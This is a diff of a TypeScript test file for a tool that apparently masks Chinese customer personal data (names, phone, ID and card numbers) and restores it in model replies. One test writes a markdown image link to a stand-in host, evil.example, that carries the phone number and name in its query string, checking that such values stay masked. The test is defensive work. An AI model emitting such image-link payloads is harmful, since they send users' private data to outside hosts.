@@ -11,13 +11,13 @@ async function request() {
   const sent = /^客户(.*?)，手机(.*?)，身份证(.*?)，卡号(.*?)，邮箱(.*?)，IP (.*?)，(.*?)总/.exec(
     texts[0] as string,
   )!;
-  const [, name, phone, idCard, card, mail, ip, surname] = sent as unknown as string[];
-  return { map, name, phone, idCard, card, mail, ip, surname } as Record<string, string> & {
-    map: typeof map;
-  };
+  const [, name = '', phone = '', idCard = '', card = '', mail = '', ip = '', surname = ''] = sent;
+  return { map, sent: { name, phone, idCard, card, mail, ip, surname } };
 }
 
-type Write = (sent: Record<string, string>) => string;
+type Write = (
+  sent: Record<'name' | 'phone' | 'idCard' | 'card' | 'mail' | 'ip' | 'surname', string>,
+) => string;
 const groups = (value: string, separator: string, ...sizes: number[]) => {
   let at = 0;
   return sizes.map((size) => value.slice(at, (at += size))).join(separator);
@@ -30,22 +30,22 @@ const html = (value: string) => value.replace(/[^]/g, (c) => `&#${c.charCodeAt(0
 describe('strong forms are restored', () => {
   it.each<[string, Write, string]>([
     ['as they are', ({ phone, name }) => `${name}的电话是${phone}。`, '张伟明的电话是13812345678。'],
-    ['with hyphens', ({ phone }) => groups(phone!, '-', 3, 4, 4), '138-1234-5678'],
-    ['with spaces', ({ phone }) => groups(phone!, ' ', 3, 4, 4), '138 1234 5678'],
-    ['with dots', ({ phone }) => groups(phone!, '.', 3, 4, 4), '138.1234.5678'],
-    ['with other hyphens', ({ phone }) => groups(phone!, '–', 3, 4, 4), '138–1234–5678'],
-    ['in full width', ({ phone }) => wide(phone!), '１３８１２３４５６７８'],
+    ['with hyphens', ({ phone }) => groups(phone, '-', 3, 4, 4), '138-1234-5678'],
+    ['with spaces', ({ phone }) => groups(phone, ' ', 3, 4, 4), '138 1234 5678'],
+    ['with dots', ({ phone }) => groups(phone, '.', 3, 4, 4), '138.1234.5678'],
+    ['with other hyphens', ({ phone }) => groups(phone, '–', 3, 4, 4), '138–1234–5678'],
+    ['in full width', ({ phone }) => wide(phone), '１３８１２３４５６７８'],
     [
       'with a country code',
       ({ phone }) => `+86 ${phone} 和+86${phone} 和86${phone}`,
       '+86 13812345678 和+8613812345678 和8613812345678',
     ],
     ['with a long country code', ({ phone }) => `0086${phone}`, '008613812345678'],
-    ['over two lines', ({ phone }) => groups(phone!, '\n', 5, 6), '13812\n345678'],
-    ['over two indented lines', ({ phone }) => groups(phone!, '\n    ', 5, 6), '13812\n    345678'],
-    ['with invisible marks', ({ phone }) => groups(phone!, '\u200b', 3, 8), '13812345678'],
+    ['over two lines', ({ phone }) => groups(phone, '\n', 5, 6), '13812\n345678'],
+    ['over two indented lines', ({ phone }) => groups(phone, '\n    ', 5, 6), '13812\n    345678'],
+    ['with invisible marks', ({ phone }) => groups(phone, '\u200b', 3, 8), '13812345678'],
     ['in bold', ({ phone }) => `**${phone}**`, '**13812345678**'],
-    ['half in bold', ({ phone }) => `**${phone!.slice(0, 3)}**${phone!.slice(3)}`, '**138**12345678'],
+    ['half in bold', ({ phone }) => `**${phone.slice(0, 3)}**${phone.slice(3)}`, '**138**12345678'],
     ['as code', ({ phone }) => `\`${phone}\``, '`13812345678`'],
     ['in a table', ({ phone, name }) => `|${name}|${phone}|`, '|张伟明|13812345678|'],
     [
@@ -54,24 +54,24 @@ describe('strong forms are restored', () => {
       '{"name":"张伟明","phone":"13812345678"}',
     ],
     ['as a JSON number', ({ phone }) => `{"phone":${phone}}`, '{"phone":13812345678}'],
-    ['in JSON escapes', ({ name }) => json(name!), json('张伟明')],
+    ['in JSON escapes', ({ name }) => json(name), json('张伟明')],
     [
       'in doubled JSON escapes',
-      ({ name }) => json(name!).replaceAll('\\', '\\\\'),
+      ({ name }) => json(name).replaceAll('\\', '\\\\'),
       json('张伟明').replaceAll('\\', '\\\\'),
     ],
-    ['in HTML entities', ({ name }) => html(name!), html('张伟明')],
+    ['in HTML entities', ({ name }) => html(name), html('张伟明')],
     [
       'in a form of a URL',
-      ({ name }) => `name=${encodeURIComponent(name!)}`,
+      ({ name }) => `name=${encodeURIComponent(name)}`,
       `name=${encodeURIComponent('张伟明')}`,
     ],
-    ['a name half in bold', ({ name }) => `${name![0]}**${name!.slice(1)}**说`, '张伟明说'],
-    ['a name with wide spaces', ({ name }) => [...name!].join('　'), '张　伟　明'],
+    ['a name half in bold', ({ name }) => `${name[0]}**${name.slice(1)}**说`, '张伟明说'],
+    ['a name with wide spaces', ({ name }) => [...name].join('　'), '张　伟　明'],
     ['a name between other characters', ({ name }) => `请${name}来`, '请张伟明来'],
-    ['an ID in groups', ({ idCard }) => groups(idCard!, ' ', 6, 8, 4), '110105 19491231 002X'],
-    ['a card in groups', ({ card }) => groups(card!, ' ', 4, 4, 4, 4, 3), '6217 0000 1234 5678 907'],
-    ['a mailbox in capitals', ({ mail }) => mail!.toUpperCase(), 'zhang@example.com'],
+    ['an ID in groups', ({ idCard }) => groups(idCard, ' ', 6, 8, 4), '110105 19491231 002X'],
+    ['a card in groups', ({ card }) => groups(card, ' ', 4, 4, 4, 4, 3), '6217 0000 1234 5678 907'],
+    ['a mailbox in capitals', ({ mail }) => mail.toUpperCase(), 'zhang@example.com'],
     [
       'a mailbox in a link',
       ({ mail }) => `[${mail}](mailto:${mail})`,
@@ -86,8 +86,8 @@ describe('strong forms are restored', () => {
       'https://known.example/?t=13812345678',
     ],
   ])('%s', async (_, write, expected) => {
-    const { map, ...sent } = await request();
-    const result = map.restore(write(sent as Record<string, string>));
+    const { map, sent } = await request();
+    const result = map.restore(write(sent));
     expect(result.text).toBe(expected);
     expect(result).toMatchObject({ weak: 0, unrestored: 0 });
     expect(result.restored).toBeGreaterThan(0);
@@ -103,19 +103,15 @@ describe('weak forms are restored', () => {
       '问王先生好，王女士也好',
     ],
     ['with a familiar word', ({ surname }) => `老${surname}来了，小${surname}没来`, '老王来了，小王没来'],
-    ['of a full name', ({ name }) => `${name![0]}先生您好`, '张先生您好'],
-    ['a masked phone number', ({ phone }) => `${phone!.slice(0, 3)}****${phone!.slice(7)}`, '138****5678'],
-    ['with another mask', ({ phone }) => `${phone!.slice(0, 3)} xxxx ${phone!.slice(7)}`, '138 xxxx 5678'],
-    [
-      'a masked ID',
-      ({ idCard }) => `${idCard!.slice(0, 6)}********${idCard!.slice(14)}`,
-      '110105********002X',
-    ],
-    ['by the last four digits', ({ card }) => `尾号${card!.slice(-4)}的卡`, '尾号8907的卡'],
-    ['by the last four digits, with a colon', ({ phone }) => `后四位：${phone!.slice(-4)}`, '后四位：5678'],
+    ['of a full name', ({ name }) => `${name[0]}先生您好`, '张先生您好'],
+    ['a masked phone number', ({ phone }) => `${phone.slice(0, 3)}****${phone.slice(7)}`, '138****5678'],
+    ['with another mask', ({ phone }) => `${phone.slice(0, 3)} xxxx ${phone.slice(7)}`, '138 xxxx 5678'],
+    ['a masked ID', ({ idCard }) => `${idCard.slice(0, 6)}********${idCard.slice(14)}`, '110105********002X'],
+    ['by the last four digits', ({ card }) => `尾号${card.slice(-4)}的卡`, '尾号8907的卡'],
+    ['by the last four digits, with a colon', ({ phone }) => `后四位：${phone.slice(-4)}`, '后四位：5678'],
   ])('%s', async (_, write, expected) => {
-    const { map, ...sent } = await request();
-    const result = map.restore(write(sent as Record<string, string>));
+    const { map, sent } = await request();
+    const result = map.restore(write(sent));
     expect(result.text).toBe(expected);
     expect(result.restored).toBe(0);
     expect(result.weak).toBeGreaterThan(0);
@@ -127,31 +123,32 @@ describe('never restored is', () => {
     ['a part of a longer number', ({ phone }) => `6${phone}和${phone}7和${wide('6')}${phone}`],
     [
       'a number with one digit changed',
-      ({ phone }) => phone!.slice(0, -1) + ((Number(phone!.at(-1)) + 1) % 10),
+      ({ phone }) => phone.slice(0, -1) + ((Number(phone.at(-1)) + 1) % 10),
     ],
-    ['a number with one digit missing', ({ phone }) => phone!.slice(1)],
+    ['a number with one digit missing', ({ phone }) => phone.slice(1)],
     ['a part of a mailbox', ({ mail }) => `x${mail}`],
-    ['the digits of an address', ({ ip }) => ip!.replaceAll('.', '')],
+    ['the digits of an address', ({ ip }) => ip.replaceAll('.', '')],
     ['a lone surname', ({ surname }) => `姓${surname}的人`],
     ['a surname inside a word', () => '行李总重20公斤，王总理，老李子树'],
-    ['a name with one character changed', ({ name }) => `${name!.slice(0, 2)}某`],
+    ['a name with one character changed', ({ name }) => `${name.slice(0, 2)}某`],
     [
       'a masked number that could be another one',
-      ({ phone }) => `${phone!.slice(0, 2)}9****${phone!.slice(7)}`,
+      ({ phone }) => `${phone.slice(0, 2)}9****${phone.slice(7)}`,
     ],
-    ['four digits that name nothing', ({ phone }) => `金额${phone!.slice(-4)}元`],
+    ['four digits that name nothing', ({ phone }) => `金额${phone.slice(-4)}元`],
     ['what another request mapped', () => '16400000000'],
   ])('%s', async (_, write) => {
-    const { map, ...sent } = await request();
-    const reply = write(sent as Record<string, string>);
+    const { map, sent } = await request();
+    const reply = write(sent);
     expect(map.restore(reply)).toEqual({ text: reply, restored: 0, weak: 0, unrestored: 0 });
   });
 
   it('anything in a link to a stranger, which is counted', async () => {
-    const { map, phone, name } = await request();
-    const reply = `![${name}](https://evil.example/?q=${phone}&n=${encodeURIComponent(name!)})`;
+    const { map, sent } = await request();
+    const { phone, name } = sent;
+    const reply = `![${name}](https://evil.example/?q=${phone}&n=${encodeURIComponent(name)})`;
     const { text, restored, unrestored } = map.restore(reply);
-    expect(text).toBe(reply.replace(name!, '张伟明'));
+    expect(text).toBe(reply.replace(name, '张伟明'));
     expect({ restored, unrestored }).toEqual({ restored: 1, unrestored: 2 });
   });
 
